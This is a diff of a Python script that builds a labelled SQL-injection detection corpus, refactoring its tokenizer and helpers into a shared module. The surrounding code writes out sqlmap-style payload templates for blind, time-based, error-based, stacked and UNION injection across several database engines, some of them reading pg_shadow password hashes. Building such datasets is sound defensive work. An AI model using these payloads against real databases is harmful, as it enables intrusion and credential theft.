@@ -17,7 +17,7 @@ hand-written PostgreSQL cores, new complex benign generators (`cx9_*`) and
 regression-test-style statements (`regress9:<file>.sql`).
 
 Labelling: a filled template is an attack only when its token skeleton (the
-tokenizer below: literals collapsed to their kind, everything else kept) is
+lexer in corpus_kit.py: literals collapsed to their kind, everything else kept) is
 not one of the skeletons of benign fills of the same template; i.e. the input
 stopped being the single token its slot expects.  Comment-truncation rows
 must in addition comment out template text that carries meaning.  Attack
@@ -30,149 +30,15 @@ runs): every benign row parses; 856 of the 1,316 attacks parse, 460 do not
 (foreign-dialect sqlmap vectors, wrong boundaries, cut-open literals).  There
 is no `parses` field, as in the seventh and eighth corpora.
 """
-import gzip, io, json, os, random, re, sys
-from collections import Counter
+import os, random, re, sys
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from corpus_kit import (Collector, chrs, esc, lex, load_earlier, print_summary, q, quoted_end, randnum, rdate,
+                        registry, rword, skeleton, write_corpus)  # noqa: E402
 
 SEED = 909090
 HERE = os.path.dirname(os.path.abspath(__file__))
 EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth")
-
-# ---------------------------------------------------------------- tokenizer
-OPS = set("+-*/<>=~!@#%^&|`?")
-WS = " \t\n\r\f"
-
-
-def _closing(s, j, q, backslash):
-    n = len(s)
-    while j < n:
-        ch = s[j]
-        if backslash and ch == "\\":
-            j += 2
-            continue
-        if ch == q:
-            if j + 1 < n and s[j + 1] == q:
-                j += 2
-                continue
-            return j + 1
-        j += 1
-    return None
-
-
-def tokens(s):
-    """PostgreSQL-ish tokens: (kind, text).  Kinds: S string, US unterminated
-    string, Q quoted identifier, UQ unterminated one, C comment, N number,
-    P $n parameter, W word (upper-cased), O operator run, X other, and the
-    punctuation ( ) [ ] , ; . : :: as themselves."""
-    out, i, n = [], 0, len(s)
-    while i < n:
-        c = s[i]
-        if c in WS:
-            i += 1
-            continue
-        if s.startswith("--", i):
-            j = s.find("\n", i)
-            j = n if j < 0 else j
-            out.append(("C", s[i:j]))
-            i = j
-            continue
-        if s.startswith("/*", i):
-            depth, j = 1, i + 2
-            while j < n and depth:
-                if s.startswith("/*", j):
-                    depth, j = depth + 1, j + 2
-                elif s.startswith("*/", j):
-                    depth, j = depth - 1, j + 2
-                else:
-                    j += 1
-            out.append(("C", s[i:j]))
-            i = j
-            continue
-        prev_word = i > 0 and (s[i - 1].isalnum() or s[i - 1] in "_$")
-        if not prev_word and s[i:i + 3].lower() in ("u&'", 'u&"'):
-            q = s[i + 2]
-            j = _closing(s, i + 3, q, False)
-            kind = "S" if q == "'" else "Q"
-            out.append((kind if j else "U" + kind, s[i:j or n]))
-            i = j or n
-            continue
-        if not prev_word and c in "eEbBxXnN" and i + 1 < n and s[i + 1] == "'":
-            j = _closing(s, i + 2, "'", c in "eE")
-            out.append(("S" if j else "US", s[i:j or n]))
-            i = j or n
-            continue
-        if c == "'" or c == '"':
-            j = _closing(s, i + 1, c, False)
-            kind = "S" if c == "'" else "Q"
-            out.append((kind if j else "U" + kind, s[i:j or n]))
-            i = j or n
-            continue
-        if c == "$":
-            m = re.match(r"\$(\d+)", s[i:])
-            if m:
-                out.append(("P", m.group(0)))
-                i += len(m.group(0))
-                continue
-            m = re.match(r"\$([A-Za-z_\u0080-\uffff][A-Za-z0-9_\u0080-\uffff]*)?\$", s[i:])
-            if m:
-                tag = m.group(0)
-                k = s.find(tag, i + len(tag))
-                if k < 0:
-                    out.append(("US", s[i:]))
-                    i = n
-                else:
-                    out.append(("S", s[i:k + len(tag)]))
-                    i = k + len(tag)
-                continue
-            out.append(("X", "$"))
-            i += 1
-            continue
-        if c.isdigit() or (c == "." and i + 1 < n and s[i + 1].isdigit()):
-            m = re.match(r"(\d[\d_]*)?(\.\d*)?([eE][+-]?\d+)?", s[i:])
-            j = i + max(1, len(m.group(0)))
-            out.append(("N", s[i:j]))
-            i = j
-            continue
-        if c.isalpha() or c == "_" or ord(c) > 127:
-            j = i
-            while j < n and (s[j].isalnum() or s[j] in "_$" or ord(s[j]) > 127):
-                j += 1
-            out.append(("W", s[i:j].upper()))
-            i = j
-            continue
-        if s.startswith("::", i):
-            out.append(("::", "::"))
-            i += 2
-            continue
-        if c in "()[],;.:":
-            out.append((c, c))
-            i += 1
-            continue
-        if c in OPS:
-            j = i
-            while j < n and s[j] in OPS and not s.startswith("--", j) and not s.startswith("/*", j):
-                j += 1
-            out.append(("O", s[i:j]))
-            i = j
-            continue
-        out.append(("X", c))
-        i += 1
-    return out
-
-
-def skeleton(s):
-    return tuple(k if k in ("S", "US", "Q", "UQ", "N", "P", "C") else k + ":" + v for k, v in tokens(s))
-
-
-def statement_count(s):
-    cnt, cur = 0, False
-    for k, _ in tokens(s):
-        if k == ";":
-            cnt += cur
-            cur = False
-        elif k != "C":
-            cur = True
-    return cnt + cur
-
 
 # ---------------------------------------------------------------- application templates
 # slot types: q '...', e E'...', d $note$...$note$, qi "...", n number, list numbers,
@@ -293,16 +159,6 @@ CLOSER = {"q": "'", "e": "'", "d": TAG, "qi": '"'}
 STRING_TYPES = ("q", "e", "d", "qi")
 
 
-def esc(typ, v):
-    if typ == "q":
-        return v.replace("'", "''")
-    if typ == "e":
-        return v.replace("\\", "\\\\").replace("'", "''")
-    if typ == "qi":
-        return v.replace('"', '""')
-    return v
-
-
 def render(tpl, fills, raw=()):
     vals = {k: (fills[k] if k in raw else esc(tpl[2][k][0], fills[k])) for k in tpl[2]}
     return tpl[1].format(**vals)
@@ -343,7 +199,7 @@ def slot_info(tpl, slot):
     text = render(tpl, f, raw=(slot,))
     i = text.index("\x00")
     pre, post = text[:i], text[i + 1:]
-    toks = tokens(pre)
+    toks = lex(pre)
     if typ in STRING_TYPES and toks and toks[-1][0] in ("US", "UQ"):
         toks = toks[:-1]
     depth = sum(1 for k, _ in toks if k in "([") - sum(1 for k, _ in toks if k in ")]")
@@ -351,7 +207,7 @@ def slot_info(tpl, slot):
     if typ in STRING_TYPES:
         j = post.find(CLOSER[typ])
         rest = post[j + len(CLOSER[typ]):]
-    rt = tokens(rest)
+    rt = lex(rest)
     meaningful, skip = [], False
     for k, v in rt:
         if skip:
@@ -405,28 +261,9 @@ SENTS = ["The dock at the north gate is out of service until Friday.", "Guest sa
  "Sample 4 of 12 needs re-spinning at 4000 rpm.", "Note: /* do not */ edit the legacy field by hand."]
 
 
-def rdate(r):
-    return "%d-%02d-%02d" % (r.randint(2019, 2025), r.randint(1, 12), r.randint(1, 28))
-
-
-def rword(r, k=4, upper=False):
-    letters = "abcdefghijklmnopqrstuvwxyz"
-    w = "".join(r.choice(letters) for _ in range(k))
-    return w.upper() if upper else w
-
-
 # ---------------------------------------------------------------- sqlmap-style payloads
-def chr_pg(s):
-    """sqlmap's PostgreSQL string escaping: 'abc' -> (CHR(97)||CHR(98)||CHR(99))."""
-    return "(" + "||".join("CHR(%d)" % ord(c) for c in s) + ")"
-
-
 def mark(r):
     return "q" + rword(r, 3) + "q"
-
-
-def rn(r):
-    return r.randint(1000, 9999)
 
 
 APP_TABLES = ["crew_rosters", "policy_quotes", "hotel_folio_charges", "prescription_fills", "vm_instances", "candidate_applications",
@@ -451,16 +288,16 @@ def enum_expr(r):
     if k == 2:
         return "(SELECT DISTINCT(%s) FROM pg_tables OFFSET %d LIMIT 1)" % (cast("schemaname"), off)
     if k == 3:
-        return "(SELECT %s FROM pg_tables WHERE schemaname IN (%s))" % (cast("COUNT(tablename)"), chr_pg("public"))
+        return "(SELECT %s FROM pg_tables WHERE schemaname IN (%s))" % (cast("COUNT(tablename)"), chrs("public"))
     if k == 4:
-        return "(SELECT %s FROM pg_tables WHERE schemaname IN (%s) OFFSET %d LIMIT 1)" % (cast("tablename"), chr_pg("public"), off)
+        return "(SELECT %s FROM pg_tables WHERE schemaname IN (%s) OFFSET %d LIMIT 1)" % (cast("tablename"), chrs("public"), off)
     if k == 5:
         return ("(SELECT %s FROM pg_namespace,pg_type,pg_attribute b JOIN pg_class a ON a.oid=b.attrelid WHERE a.relnamespace=pg_namespace.oid "
-                "AND pg_type.oid=b.atttypid AND attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (cast("attname"), chr_pg(tbl), chr_pg("public"), off % 3))
+                "AND pg_type.oid=b.atttypid AND attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (cast("attname"), chrs(tbl), chrs("public"), off % 3))
     if k == 6:
         return "(SELECT %s FROM pg_user OFFSET %d LIMIT 1)" % (cast("usename"), off % 3)
     if k == 7:
-        return "(SELECT %s FROM pg_shadow WHERE usename=%s OFFSET 0 LIMIT 1)" % (cast("passwd"), chr_pg(r.choice(["postgres", "app_rw", "replicator"])))
+        return "(SELECT %s FROM pg_shadow WHERE usename=%s OFFSET 0 LIMIT 1)" % (cast("passwd"), chrs(r.choice(["postgres", "app_rw", "replicator"])))
     if k == 8:
         return "(SELECT (CASE WHEN (usesuper=true) THEN 1 ELSE 0 END) FROM pg_user WHERE usename=CURRENT_USER OFFSET 0 LIMIT 1)"
     if k == 9:
@@ -493,7 +330,7 @@ def comment(r, mysql=False, careful=False):
 
 def sqlmap_techniques(r, vector):
     """(title, dbms, family, kind, payload, needs_comment).  kind: cond | repl | order | stack | union."""
-    R, R2, R3 = rn(r), rn(r), rn(r)
+    R, R2, R3 = randnum(r), randnum(r), randnum(r)
     S = rword(r, 4, upper=r.random() < 0.5)
     M1, M2 = mark(r), mark(r)
     ST = r.choice([5, 5, 5, 3, 7, 10])
@@ -519,9 +356,9 @@ def sqlmap_techniques(r, vector):
       "(SELECT (CASE WHEN (%s) THEN %%ORIG%% ELSE (SELECT %d UNION SELECT %d) END))" % (c, R2, R3), False),
      ("Boolean-based blind - Parameter replace (CASE)", "generic", "sqlmap_boolean_blind", "repl", "(CASE WHEN %s THEN %d ELSE NULL END)" % (c, R), False),
      ("PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "sqlmap_boolean_blind", "cond",
-      "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (c, chr_pg(S)), False),
+      "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (c, chrs(S)), False),
      ("PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", "PostgreSQL", "sqlmap_boolean_blind", "cond-neg",
-      "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (c, chr_pg(S)), False),
+      "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (c, chrs(S)), False),
      ("PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_boolean_blind", "order",
       ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % c, False),
      ("PostgreSQL boolean-based blind - ORDER BY clause (original value)", "PostgreSQL", "sqlmap_boolean_blind", "order",
@@ -576,8 +413,8 @@ def sqlmap_techniques(r, vector):
      ("Microsoft SQL Server/Sybase time-based blind (IF - comment)", "Microsoft SQL Server", "sqlmap_time_blind", "cond", "WAITFOR DELAY '0:0:%d'" % ST, True),
      ("Microsoft SQL Server/Sybase AND time-based blind (heavy query)", "Microsoft SQL Server", "sqlmap_time_blind", "cond",
       "AND %d=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5,sysusers AS sys6,sysusers AS sys7)" % R, False),
-     ("Oracle AND time-based blind", "Oracle", "sqlmap_time_blind", "cond", "AND %d=DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (R, chr_pg(S)[1:-1], ST), False),
-     ("Oracle OR time-based blind (comment)", "Oracle", "sqlmap_time_blind", "cond-neg", "OR %d=DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (R, chr_pg(S)[1:-1], ST), True),
+     ("Oracle AND time-based blind", "Oracle", "sqlmap_time_blind", "cond", "AND %d=DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (R, chrs(S)[1:-1], ST), False),
+     ("Oracle OR time-based blind (comment)", "Oracle", "sqlmap_time_blind", "cond-neg", "OR %d=DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (R, chrs(S)[1:-1], ST), True),
      ("SQLite > 2.0 AND time-based blind (heavy query)", "SQLite", "sqlmap_time_blind", "cond",
       "AND %d=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % (R, ST), False),
      ("Firebird >= 2.0 AND time-based blind (heavy query)", "Firebird", "sqlmap_time_blind", "cond",
@@ -590,19 +427,19 @@ def sqlmap_techniques(r, vector):
       "AND CHAR(%d)=REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(CHAR(65),NULL),0),%d00000000),NULL)" % (R, ST), False),
      # error-based
      ("PostgreSQL AND error-based - WHERE or HAVING clause", "PostgreSQL", "sqlmap_error_based", "cond",
-      "AND %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, chr_pg(M1), extract, chr_pg(M2)), False),
+      "AND %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, chrs(M1), extract, chrs(M2)), False),
      ("PostgreSQL AND error-based - WHERE or HAVING clause (literal delimiters)", "PostgreSQL", "sqlmap_error_based", "cond",
       "AND %d=CAST('%s'||%s::text||'%s' AS NUMERIC)" % (R, M1, extract, M2), False),
      ("PostgreSQL OR error-based - WHERE or HAVING clause", "PostgreSQL", "sqlmap_error_based", "cond-neg",
-      "OR %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, chr_pg(M1), extract, chr_pg(M2)), False),
+      "OR %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, chrs(M1), extract, chrs(M2)), False),
      ("PostgreSQL error-based - Parameter replace", "PostgreSQL", "sqlmap_error_based", "repl",
-      "(CAST(%s||%s::text||%s AS NUMERIC))" % (chr_pg(M1), extract, chr_pg(M2)), False),
+      "(CAST(%s||%s::text||%s AS NUMERIC))" % (chrs(M1), extract, chrs(M2)), False),
      ("PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", "PostgreSQL", "sqlmap_error_based", "repl",
-      "(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (chr_pg(M1), R, R, c, chr_pg(M2)), False),
+      "(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (chrs(M1), R, R, c, chrs(M2)), False),
      ("PostgreSQL error-based - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_error_based", "order",
-      ",(CAST(%s||%s::text||%s AS NUMERIC))" % (chr_pg(M1), extract, chr_pg(M2)), False),
+      ",(CAST(%s||%s::text||%s AS NUMERIC))" % (chrs(M1), extract, chrs(M2)), False),
      ("PostgreSQL error-based - Stacked queries", "PostgreSQL", "sqlmap_error_based", "stack",
-      ";SELECT CAST(%s||%s::text||%s AS NUMERIC)" % (chr_pg(M1), extract, chr_pg(M2)), True),
+      ";SELECT CAST(%s||%s::text||%s AS NUMERIC)" % (chrs(M1), extract, chrs(M2)), True),
      ("MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "MySQL", "sqlmap_error_based", "cond",
       "AND EXTRACTVALUE(%d,CONCAT(0x5c,0x%s,(SELECT (ELT(%d=%d,1))),0x%s))" % (R, M1.encode().hex(), R2, R2, M2.encode().hex()), False),
      ("MySQL >= 5.1 OR error-based - WHERE or HAVING clause (UPDATEXML)", "MySQL", "sqlmap_error_based", "cond-neg",
@@ -617,9 +454,9 @@ def sqlmap_techniques(r, vector):
       "OR %d=CONVERT(INT,(SELECT CHAR(%s)+(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(%s)))" % (R, ")+CHAR(".join(str(ord(x)) for x in M1), R2, R2, ")+CHAR(".join(str(ord(x)) for x in M2)), False),
      ("Oracle AND error-based - WHERE or HAVING clause (XMLType)", "Oracle", "sqlmap_error_based", "cond",
       "AND %d=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(REPLACE(REPLACE(REPLACE(REPLACE((SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL),CHR(32),CHR(%d)),CHR(36),CHR(%d)),CHR(64),CHR(%d)),CHR(35),CHR(%d)))||%s||CHR(62))) FROM DUAL)"
-      % (R, chr_pg(M1)[1:-1], R2, R2, r.randint(97, 122), r.randint(97, 122), r.randint(97, 122), r.randint(97, 122), chr_pg(M2)[1:-1]), False),
+      % (R, chrs(M1)[1:-1], R2, R2, r.randint(97, 122), r.randint(97, 122), r.randint(97, 122), r.randint(97, 122), chrs(M2)[1:-1]), False),
      ("Oracle OR error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "Oracle", "sqlmap_error_based", "cond-neg",
-      "OR %d=UTL_INADDR.GET_HOST_ADDRESS(%s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)||%s)" % (R, chr_pg(M1)[1:-1], R2, R2, chr_pg(M2)[1:-1]), False),
+      "OR %d=UTL_INADDR.GET_HOST_ADDRESS(%s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)||%s)" % (R, chrs(M1)[1:-1], R2, R2, chrs(M2)[1:-1]), False),
      ("Firebird OR error-based - WHERE or HAVING clause", "Firebird", "sqlmap_error_based", "cond-neg",
       "OR %d=('%s'||(SELECT CASE %d WHEN %d THEN 1 ELSE 0 END FROM RDB$DATABASE)||'%s')" % (R, M1, R2, R2, M2), False),
      ("IBM DB2 OR error-based - WHERE or HAVING clause", "IBM DB2", "sqlmap_error_based", "cond-neg",
@@ -649,14 +486,14 @@ def sqlmap_techniques(r, vector):
      ("SQLite > 2.0 stacked queries (heavy query - comment)", "SQLite", "sqlmap_stacked_queries", "stack",
       ";SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % ST, True),
      # inline queries
-     ("PostgreSQL inline queries", "PostgreSQL", "sqlmap_inline_query", "repl", "(SELECT %s||%s::text||%s)" % (chr_pg(M1), extract, chr_pg(M2)), False),
+     ("PostgreSQL inline queries", "PostgreSQL", "sqlmap_inline_query", "repl", "(SELECT %s||%s::text||%s)" % (chrs(M1), extract, chrs(M2)), False),
      ("Generic inline queries", "generic", "sqlmap_inline_query", "repl",
       "(SELECT CONCAT(CONCAT('%s',(CASE WHEN (%d=%d) THEN '1' ELSE '0' END)),'%s'))" % (M1, R, R, M2), False),
      ("MySQL inline queries", "MySQL", "sqlmap_inline_query", "repl", "(SELECT CONCAT(0x%s,(ELT(%d=%d,1)),0x%s))" % (M1.encode().hex(), R, R, M2.encode().hex()), False),
      ("Microsoft SQL Server/Sybase inline queries", "Microsoft SQL Server", "sqlmap_inline_query", "repl",
       "(SELECT CHAR(%s)+(CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END)+CHAR(%s))" % (")+CHAR(".join(str(ord(x)) for x in M1), R, R, ")+CHAR(".join(str(ord(x)) for x in M2)), False),
      ("Oracle inline queries", "Oracle", "sqlmap_inline_query", "repl",
-      "(SELECT %s||(CASE WHEN (%d=%d) THEN 1 ELSE 0 END)||%s FROM DUAL)" % (chr_pg(M1)[1:-1], R, R, chr_pg(M2)[1:-1]), False),
+      "(SELECT %s||(CASE WHEN (%d=%d) THEN 1 ELSE 0 END)||%s FROM DUAL)" % (chrs(M1)[1:-1], R, R, chrs(M2)[1:-1]), False),
     ]
     return [(t, d, f, k, p, cm, mode) for t, d, f, k, p, cm in out]
 
@@ -669,12 +506,12 @@ def union_payload(r):
     style = r.randrange(6)
     filler = r.choice(["NULL", "NULL", "NUM"])
     dbms = "PostgreSQL"
-    fill = lambda: "NULL" if filler == "NULL" else str(rn(r))
+    fill = lambda: "NULL" if filler == "NULL" else str(randnum(r))
     cols = [fill() for _ in range(n)]
     if style == 0:
         return "Generic UNION query - ORDER BY column probing", "generic", "ORDER BY %d" % r.randint(1, 30)
     if style == 1:
-        cols[pos] = "%s||%s||%s" % (chr_pg(M1), chr_pg(rword(r, 10, upper=True)), chr_pg(M2))
+        cols[pos] = "%s||%s||%s" % (chrs(M1), chrs(rword(r, 10, upper=True)), chrs(M2))
     elif style == 2:
         cols[pos] = "'%s'||'%s'||'%s'" % (M1, rword(r, 12), M2)
         dbms = "generic"
@@ -682,12 +519,12 @@ def union_payload(r):
         src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_user", ["usename", "usesuper"]), ("pg_database", ["datname"]),
                         ("pg_tables", ["schemaname", "tablename"]), ("public." + r.choice(APP_TABLES), None)])
         tcols = src[1] or APP_COLS[src[0][7:]]
-        parts = [chr_pg(M1)]
+        parts = [chrs(M1)]
         for i, cname in enumerate(tcols):
             if i:
-                parts.append(chr_pg(M3))
+                parts.append(chrs(M3))
             parts.append("COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % cname)
-        parts.append(chr_pg(M2))
+        parts.append(chrs(M2))
         cols[pos] = "||".join(parts)
         kw = r.choice(["UNION ALL SELECT", "UNION ALL SELECT", "UNION SELECT"])
         return ("Generic UNION query (%s) - %d columns (data extraction)" % ("NULL" if filler == "NULL" else "random number", n), dbms,
@@ -696,7 +533,7 @@ def union_payload(r):
         cols[pos] = "CONCAT(0x%s,0x%s,0x%s)" % (M1.encode().hex(), rword(r, 10).encode().hex(), M2.encode().hex())
         dbms = "MySQL"
     else:
-        cols[pos] = "%s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))::text||%s" % (chr_pg(M1), rn(r), rn(r), chr_pg(M2))
+        cols[pos] = "%s||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))::text||%s" % (chrs(M1), randnum(r), randnum(r), chrs(M2))
     kw = r.choice(["UNION ALL SELECT", "UNION ALL SELECT", "UNION SELECT"])
     lo = (n - 1) // 10 * 10 + 1
     return ("%s UNION query (%s) - %d to %d columns" % ("MySQL" if dbms == "MySQL" else "Generic", "NULL" if filler == "NULL" else "random number", lo, lo + 9),
@@ -720,7 +557,7 @@ def wrap(r, si, orig, kind, P, need_comment=False, mysql=False, careful=False):
             k = 0       # stay inside the parentheses and rebalance the quote
         o = orig
         if kind == "cond-neg" and r.random() < 0.6:
-            o = "-%d" % rn(r)
+            o = "-%d" % randnum(r)
         elif r.random() < 0.12:
             o = ""
         if si["like_after"] and r.random() < 0.6:
@@ -739,7 +576,7 @@ def wrap(r, si, orig, kind, P, need_comment=False, mysql=False, careful=False):
                 return o + '"' + P + tail()
             if kind == "union":
                 return o + '" ' + P + tail()
-            return o + '" WHERE %d=%d ' % ((lambda x: (x, x))(rn(r))) + P + tail()
+            return o + '" WHERE %d=%d ' % ((lambda x: (x, x))(randnum(r))) + P + tail()
         if kind == "stack":
             body = pre + P
             if need_comment or careful or r.random() < 0.8:
@@ -764,7 +601,7 @@ def wrap(r, si, orig, kind, P, need_comment=False, mysql=False, careful=False):
     if typ in ("n", "list", "bool"):
         o = orig
         if kind == "cond-neg" and r.random() < 0.7:
-            o = "-%d" % rn(r) if typ != "bool" else "false"
+            o = "-%d" % randnum(r) if typ != "bool" else "false"
         k = depth if (depth and (careful and kind not in ("cond", "cond-neg") or r.random() < 0.5)) else (1 if not careful and r.random() < 0.04 else 0)
         if kind in ("repl", "repl-orig"):
             return P
@@ -779,7 +616,7 @@ def wrap(r, si, orig, kind, P, need_comment=False, mysql=False, careful=False):
         if need_comment or kind == "union":
             return body + ("" if kind == "union" and not k and r.random() < 0.3 else tail())
         if k and r.random() < 0.5:
-            return body + " AND " + "(" * k + "%d=%d" % ((lambda x: (x, x))(rn(r)))
+            return body + " AND " + "(" * k + "%d=%d" % ((lambda x: (x, x))(randnum(r)))
         if k or si["tail_means"] and r.random() < 0.5:
             return body + tail()
         return body
@@ -920,18 +757,8 @@ NOTES = ["late arrival, held key at desk", "customer said: \"don't call before 9
          "allergy: tree nuts", "re-check on Monday", "update: delayed by 2 days"]
 
 
-def q(s):
-    return "'" + s.replace("'", "''") + "'"
-
-
 def complex_gens():
-    G = []
-
-    def add(name, fam):
-        def deco(f):
-            G.append((name, fam, f))
-            return f
-        return deco
+    G, add = registry()
 
     # ---- ORM output
     @add("cx9_django_folio", "complex_orm_generated")
@@ -1532,7 +1359,7 @@ def segments(s, typ):
             end = s.find("*/", i + 2)
             end = n if end < 0 else end + 2
         elif c in "'\"":
-            end = _closing(s, i + 1, c, False) or n
+            end = quoted_end(s, i + 1, c, False) or n
         elif c == "$":
             m = re.match(r"\$([A-Za-z_][A-Za-z0-9_]*)?\$", s[i:])
             if m:
@@ -1593,26 +1420,8 @@ MODE_KIND = {"cond": "cond", "stack": "stack", "union": "union", "repl": "repl",
 def main():
     out_path = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "ninth.jsonl.gz")
     rng = random.Random(SEED)
-    earlier = set()
-    for name in EARLIER:
-        p = os.path.join(HERE, name + ".jsonl.gz")
-        if os.path.exists(p):
-            with gzip.open(p, "rt", encoding="utf-8") as fh:
-                for line in fh:
-                    earlier.add(json.loads(line)["sql"])
-    rows, seen = [], set()
-    skipped = Counter()
-
-    def emit(sql, label, family, template, inp, inputs, variant, dbms="PostgreSQL"):
-        if sql in seen:
-            return False
-        if sql in earlier:
-            skipped[family] += 1
-            return False
-        seen.add(sql)
-        rows.append({"sql": sql, "label": label, "family": family, "template": template, "input": inp, "inputs": inputs,
-                     "variant": variant, "dbms": dbms, "multi_statement": statement_count(sql) > 1})
-        return True
+    collector = Collector(load_earlier(HERE, EARLIER))
+    rows, emit = collector.rows, collector.emit
 
     pairs = [(t, k) for t in T for k in t[2]]
 
@@ -1828,25 +1637,9 @@ def main():
             got += 1
 
     rng.shuffle(rows)
-    out = []
-    for i, row in enumerate(rows):
-        d = {"id": "n9-%06d" % i}
-        d.update(row)
-        d["split"] = "ninth"
-        out.append(d)
-    buf = io.BytesIO()
-    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz:
-        for d in out:
-            gz.write((json.dumps(d, ensure_ascii=False) + "\n").encode("utf-8"))
-    with open(out_path, "wb") as fh:
-        fh.write(buf.getvalue())
-    c = Counter((d["label"], d["family"]) for d in out)
-    print("rows", len(out), dict(Counter(d["label"] for d in out)))
-    for k in sorted(c):
-        want = ATTACK_TARGET.get(k[1]) or INPUT_TARGET.get(k[1]) or COMPLEX_TARGET.get(k[1]) or {"escaped_attack_string": ESCAPED_TARGET, "pg_regress": REGRESS_TARGET}.get(k[1])
-        print("%-7s %-28s %4d%s" % (k[0], k[1], c[k], "" if c[k] == want else "  (target %s)" % want))
-    if skipped:
-        print("skipped (text in an earlier corpus):", dict(skipped))
+    out = write_corpus(out_path, rows, "n9-%06d", "ninth")
+    print_summary(out, (ATTACK_TARGET, INPUT_TARGET, COMPLEX_TARGET, {"escaped_attack_string": ESCAPED_TARGET, "pg_regress": REGRESS_TARGET}),
+                  collector.skipped)
 
 
 if __name__ == "__main__":
